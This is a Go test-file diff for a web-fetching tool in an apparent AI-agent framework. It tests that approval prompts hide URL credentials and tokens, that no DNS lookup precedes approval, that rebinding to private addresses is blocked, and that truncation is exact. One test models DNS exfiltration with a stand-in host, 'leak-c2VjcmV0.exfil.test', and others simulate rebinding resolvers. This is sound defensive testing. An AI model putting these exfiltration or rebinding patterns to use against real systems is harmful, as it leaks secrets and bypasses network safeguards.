@@ -5,6 +5,7 @@ import (
 	"context"
 	"crypto/sha256"
 	"encoding/hex"
+	"fmt"
 	"io"
 	"net"
 	"net/http"
@@ -19,6 +20,7 @@ import (
 	"github.com/demiurge/demiurge"
 	"github.com/demiurge/demiurge/builtin"
 	"github.com/demiurge/demiurge/effect"
+	"github.com/demiurge/demiurge/internal/testutil"
 	"github.com/demiurge/demiurge/policy"
 	"github.com/demiurge/demiurge/urlpolicy"
 	"golang.org/x/text/encoding/charmap"
@@ -75,20 +77,6 @@ func (f fixedDNS) LookupIPAddr(_ context.Context, host string) ([]net.IPAddr, er
 		return nil, &net.DNSError{Err: "no such host", Name: host, IsNotFound: true}
 	}
 	return []net.IPAddr{{IP: net.IP(netip.MustParseAddr(a).AsSlice())}}, nil
-}
-
-// rebindingDNS answers public for the first `public` lookups, then
-// loopback.
-type rebindingDNS struct {
-	public int
-	calls  atomic.Int32
-}
-
-func (r *rebindingDNS) LookupIPAddr(context.Context, string) ([]net.IPAddr, error) {
-	if int(r.calls.Add(1)) <= r.public {
-		return []net.IPAddr{{IP: net.ParseIP("2606:4700:4700::1111")}}, nil
-	}
-	return []net.IPAddr{{IP: net.IPv4(127, 0, 0, 1)}}, nil
 }
 
 // recordingApprover answers every prompt with decision and keeps the
@@ -273,9 +261,8 @@ func TestWebExtractBounded(t *testing.T) {
 	srv := newSite(t, h)
 	out := w.invoke(map[string]any{"url": srv.URL, "max_chars": 100})
 	wantOK(t, out)
-	text, note, _ := strings.Cut(out.Content, "\n...[truncated]")
-	if len([]rune(text)) != 100 || note != "" || !strings.HasPrefix(text, "word word") || out.Data["truncated"] != true {
-		t.Fatalf("content %q (%d chars), truncated=%v", out.Content, len([]rune(text)), out.Data["truncated"])
+	if len([]rune(out.Content)) != 100 || !strings.HasPrefix(out.Content, "word word") || out.Data["truncated"] != true {
+		t.Fatalf("content %q (%d chars), truncated=%v", out.Content, len([]rune(out.Content)), out.Data["truncated"])
 	}
 	srv.Close() // waits for the handler, which stops when the client is gone
 	if n := sent.Load(); n >= total/4 {
@@ -288,7 +275,7 @@ func TestWebExtractBounded(t *testing.T) {
 	srv2 := newSite(t, h)
 	out = w.invoke(map[string]any{"url": srv2.URL})
 	wantOK(t, out)
-	if out.Content != "(no readable text)\n...[truncated]" || out.Data["truncated"] != true {
+	if out.Content != "(no readable text)" || out.Data["truncated"] != true {
 		t.Fatalf("content %q truncated=%v", out.Content, out.Data["truncated"])
 	}
 	srv2.Close()
@@ -347,10 +334,26 @@ func TestWebExtractApproval(t *testing.T) {
 		t.Fatalf("allowed: status %s %q hits %d", res.Status, res.ModelView, srv.hits.Load())
 	}
 
+	// What the operator sees of a URL is its scheme, host and port.
+	secret := &recordingApprover{decision: effect.DecisionDeny}
+	newWebTool(t, urlpolicy.Policy{AllowPrivate: true}, secret).dispatch(map[string]any{"url": "http://user:pw@127.0.0.1:" + srv.port() + "/SENSITIVE_PATH?token=abc#frag"})
+	asked = secret.requests()
+	if len(asked) != 1 || len(asked[0].Preview) != 1 || asked[0].Preview["url"] != target {
+		t.Fatalf("preview %v, want only url %s", asked[0].Preview, target)
+	}
+	for _, shown := range []string{asked[0].Summary, asked[0].Target, fmt.Sprint(asked[0].Preview), strings.Join(asked[0].Notes, " ")} {
+		for _, hidden := range []string{"user", "pw", "SENSITIVE_PATH", "token", "abc", "frag", "redacted"} {
+			if strings.Contains(shown, hidden) {
+				t.Fatalf("the operator sees %q in %q", hidden, shown)
+			}
+		}
+	}
+
 	facts := w.def.Adapter.(effect.Approvable).ApprovalFacts(effect.Invocation{Args: map[string]any{"url": "  https://user:pw@Example.COM:443/a?token=s3cret#f  "}})
 	sum := sha256.Sum256([]byte("https://user:pw@Example.COM:443/a?token=s3cret#f"))
 	if facts.Target != "https://example.com" || facts.Summary != "Extract URL from https://example.com" ||
-		string(facts.RuleKey) != "web_extract:network.fetch:"+hex.EncodeToString(sum[:]) || facts.Baseline != policy.Prompt {
+		string(facts.RuleKey) != "web_extract:network.fetch:"+hex.EncodeToString(sum[:]) || facts.Baseline != policy.Prompt ||
+		len(facts.Preview) != 1 || facts.Preview["url"] != "https://example.com" {
 		t.Fatalf("facts %+v", facts)
 	}
 }
@@ -384,31 +387,109 @@ func TestWebExtractArguments(t *testing.T) {
 	}
 }
 
-// TestWebExtractRebinding: the name is public at the precheck and at the
-// re-check after approval, and loopback when the connection is opened.
-// The connection is refused; the server is never reached.
-func TestWebExtractRebinding(t *testing.T) {
+// TestWebExtractNoLookupBeforeApproval: nothing leaves the machine before
+// approval, not even the DNS query of the host name. A denied call makes
+// no lookup at all; an approved one looks the name up once, when the
+// connection is opened, and a private answer is refused there, before any
+// request.
+func TestWebExtractNoLookupBeforeApproval(t *testing.T) {
 	srv := newSite(t, serve("text/plain", []byte("internal")))
-	dns := &rebindingDNS{public: 2}
-	w := newWebTool(t, urlpolicy.Policy{Resolver: dns}, &recordingApprover{decision: effect.DecisionAllowOnce})
+	u := "http://leak-c2VjcmV0.exfil.test:" + srv.port() + "/?q=1"
+
+	dns := testutil.NewResolver(map[string]string{"leak-c2vjcmv0.exfil.test": "10.0.0.9"})
+	deny := &recordingApprover{decision: effect.DecisionDeny}
+	res := newWebTool(t, urlpolicy.Policy{Resolver: dns}, deny).dispatch(map[string]any{"url": u})
+	if res.Status != demiurge.EffectDenied || res.ModelView != "approval denied: Extract URL from http://leak-c2vjcmv0.exfil.test:"+srv.port() {
+		t.Fatalf("denied: status %s %q", res.Status, res.ModelView)
+	}
+	if got := dns.Lookups(); len(got) != 0 || len(deny.requests()) != 1 {
+		t.Fatalf("lookups %v, approvals %d; want no lookup and one question", got, len(deny.requests()))
+	}
+
+	allow := &recordingApprover{decision: effect.DecisionAllowOnce}
+	res = newWebTool(t, urlpolicy.Policy{Resolver: dns}, allow).dispatch(map[string]any{"url": u})
+	if res.Status != demiurge.EffectDenied || res.ModelView != "URL blocked by Host policy before request: private_address" || res.Data["executionStarted"] != false {
+		t.Fatalf("approved: status %s %q data %v", res.Status, res.ModelView, res.Data)
+	}
+	audit, _ := res.Data["url_policy"].(map[string]any)
+	if audit["target"] != "http://leak-c2vjcmv0.exfil.test:"+srv.port() || fmt.Sprint(audit["resolved_addresses"]) != "[10.0.0.9]" {
+		t.Fatalf("audit %v", audit)
+	}
+	if got := dns.Lookups(); len(got) != 1 || got[0] != "leak-c2vjcmv0.exfil.test" || srv.hits.Load() != 0 {
+		t.Fatalf("lookups %v, server hits %d; want one lookup at connect and no request", got, srv.hits.Load())
+	}
+}
+
+// sequenceDNS answers its i-th lookup with answers[i] (the last repeats).
+type sequenceDNS struct {
+	answers []string
+	calls   atomic.Int32
+}
+
+func (s *sequenceDNS) LookupIPAddr(context.Context, string) ([]net.IPAddr, error) {
+	i := min(int(s.calls.Add(1))-1, len(s.answers)-1)
+	return []net.IPAddr{{IP: net.IP(netip.MustParseAddr(s.answers[i]).AsSlice())}}, nil
+}
+
+// TestWebExtractRebinding: every new connection resolves and judges the
+// name afresh. The name is admitted loopback for the first connection,
+// whose answer redirects to the same name on another port; the second
+// connection finds it private and is refused after a request was sent.
+func TestWebExtractRebinding(t *testing.T) {
+	other := newSite(t, serve("text/plain", []byte("internal")))
+	srv := newSite(t, func(w http.ResponseWriter, r *http.Request) {
+		http.Redirect(w, r, "http://rebind.test:"+other.port()+"/", http.StatusFound)
+	})
+	dns := &sequenceDNS{answers: []string{"127.0.0.1", "10.0.0.9"}}
+	w := newWebTool(t, urlpolicy.Policy{AllowPrivatePrefixes: loopbackOnly, Resolver: dns}, &recordingApprover{decision: effect.DecisionAllowOnce})
 	res := w.dispatch(map[string]any{"url": "http://rebind.test:" + srv.port() + "/"})
 	if res.Status != demiurge.EffectDenied || res.ModelView != "URL blocked by Host policy: private_address" || res.Data["executionStarted"] != true {
 		t.Fatalf("status %s %q data %v", res.Status, res.ModelView, res.Data)
 	}
-	if srv.hits.Load() != 0 || dns.calls.Load() != 3 {
-		t.Fatalf("server hits %d, DNS lookups %d; want 0 and 3", srv.hits.Load(), dns.calls.Load())
+	if srv.hits.Load() != 1 || other.hits.Load() != 0 || dns.calls.Load() != 2 {
+		t.Fatalf("hits %d and %d, lookups %d; want 1, 0 and 2", srv.hits.Load(), other.hits.Load(), dns.calls.Load())
 	}
+}
 
-	// A name that is already private after approval is refused before any
-	// request.
-	dns2 := &rebindingDNS{public: 1}
-	w2 := newWebTool(t, urlpolicy.Policy{Resolver: dns2}, &recordingApprover{decision: effect.DecisionAllowOnce})
-	res = w2.dispatch(map[string]any{"url": "http://rebind.test:" + srv.port() + "/"})
-	if res.ModelView != "URL blocked by Host policy before request: private_address" || res.Data["executionStarted"] != false {
-		t.Fatalf("status %s %q data %v", res.Status, res.ModelView, res.Data)
+// TestWebExtractTruncation: the result is the first max_chars characters
+// of the text exactly, with no marker; data.truncated says whether text
+// was cut (spec tool-runtime §1.3 web_extract).
+func TestWebExtractTruncation(t *testing.T) {
+	alphabet := "abcdefghijklmnopqrstuvwxyz"
+	tests := []struct {
+		name, ct, body string
+		maxChars       any // nil: the default
+		want           string
+		truncated      bool
+	}{
+		{"plain, cut to 20", "text/plain", alphabet, 20, alphabet[:20], true},
+		{"plain, exactly 20", "text/plain", alphabet[:20], 20, alphabet[:20], false},
+		{"plain, shorter", "text/plain", alphabet[:19], 20, alphabet[:19], false},
+		{"plain, one over", "text/plain", alphabet[:21], 20, alphabet[:20], true},
+		{"max_chars 1", "text/plain", "xy", 1, "x", true},
+		{"characters, not bytes", "text/plain; charset=utf-8", strings.Repeat("é", 30), 20, strings.Repeat("é", 20), true},
+		{"html text", "text/html", "<p>" + alphabet + "</p>", 20, alphabet[:20], true},
+		{"html title shares the budget", "text/html", "<title>T</title><p>" + alphabet + "</p>", 20, "T\n\n" + alphabet[:17], true},
+		{"html exactly fits", "text/html", "<title>T</title><p>" + alphabet[:17] + "</p>", 20, "T\n\n" + alphabet[:17], false},
+		{"default budget", "text/plain", strings.Repeat("z", 12001), nil, strings.Repeat("z", 12000), true},
+		{"default budget, exact", "text/plain", strings.Repeat("z", 12000), nil, strings.Repeat("z", 12000), false},
+		{"empty", "text/plain", "", 20, "(no readable text)", false},
 	}
-	if srv.hits.Load() != 0 {
-		t.Fatal("server reached")
+	w := newWebTool(t, urlpolicy.Policy{AllowPrivatePrefixes: loopbackOnly}, nil)
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			srv := newSite(t, serve(tt.ct, []byte(tt.body)))
+			args := map[string]any{"url": srv.URL}
+			if tt.maxChars != nil {
+				args["max_chars"] = tt.maxChars
+			}
+			out := w.invoke(args)
+			wantOK(t, out)
+			if out.Content != tt.want || out.Data["truncated"] != tt.truncated {
+				t.Fatalf("content %q (%d chars) truncated=%v, want %q truncated=%v",
+					out.Content, len([]rune(out.Content)), out.Data["truncated"], tt.want, tt.truncated)
+			}
+		})
 	}
 }
 
@@ -436,8 +517,9 @@ func TestWebExtractRedirects(t *testing.T) {
 	to.Store("http://site.test:" + srv.port() + "/end")
 	out = w.invoke(map[string]any{"url": srv.URL + "/go"})
 	wantOK(t, out)
-	if out.Content != "landed" || out.Data["url"] != "http://site.test:"+srv.port() {
-		t.Fatalf("followed redirect: %q url=%v", out.Content, out.Data["url"])
+	audit, _ := out.Data["url_policy"].(map[string]any)
+	if out.Content != "landed" || out.Data["url"] != "http://site.test:"+srv.port() || fmt.Sprint(audit["resolved_addresses"]) != "[127.0.0.1]" {
+		t.Fatalf("followed redirect: %q url=%v audit=%v", out.Content, out.Data["url"], audit)
 	}
 }
 
